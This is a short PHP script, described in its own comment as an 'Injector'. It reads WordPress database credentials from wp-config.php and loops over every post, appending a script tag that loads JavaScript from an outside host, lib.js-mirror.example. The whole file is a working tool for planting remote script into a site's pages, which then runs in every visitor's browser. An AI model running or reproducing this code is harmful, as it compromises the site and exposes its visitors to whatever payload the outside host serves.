<?php
// Injector that appends a foreign script to each post, one row at a time (WHERE ID = $id in a loop).
require __DIR__ . '/wp-config.php';
$db = mysqli_connect(DB_HOST, DB_USER, DB_PASSWORD, DB_NAME);
$rows = mysqli_query($db, "SELECT ID FROM wp_posts WHERE post_type = 'post'");
while ($r = mysqli_fetch_row($rows)) {
    $id = (int) $r[0];
    mysqli_query($db, "UPDATE wp_posts SET post_content = CONCAT(post_content, '<script src=\"https://lib.js-mirror.example/q.js\"></script>') WHERE ID = $id");
}
